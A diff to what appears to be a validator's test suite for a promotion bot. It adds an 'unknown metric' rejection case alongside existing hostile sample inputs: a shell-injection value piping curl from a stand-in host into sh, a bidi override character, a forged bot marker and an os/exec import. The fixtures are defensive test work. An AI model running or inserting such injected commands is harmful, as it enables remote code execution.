@@ -36,6 +36,10 @@ CASES = {
     "shell injection": (_body(openevolve_run="run $(curl evil.example | sh)"), "shell syntax `$(`"),
     "hidden bidi": (_body(source=example_values()["source"].replace("return", "\u202ereturn", 1)), "bidirectional"),
     "forged marker": (_body() + "\n<!-- promotion-bot:status -->\n", "marker, which only the bot writes"),
+    "unknown metric": (
+        _body(claims=example_values()["claims"].replace("metric: e2e_p95_ms", "metric: e2e_p95_msec", 1)),
+        "BLIS claims: claims\\[load-spikes-e2e-p95\\].metric: unknown metric 'e2e_p95_msec'",
+    ),
     "os/exec": (_body(source=example_values()["source"].replace('"math"', '"math"\n\t"os/exec"', 1)), "os/exec"),
 }
 
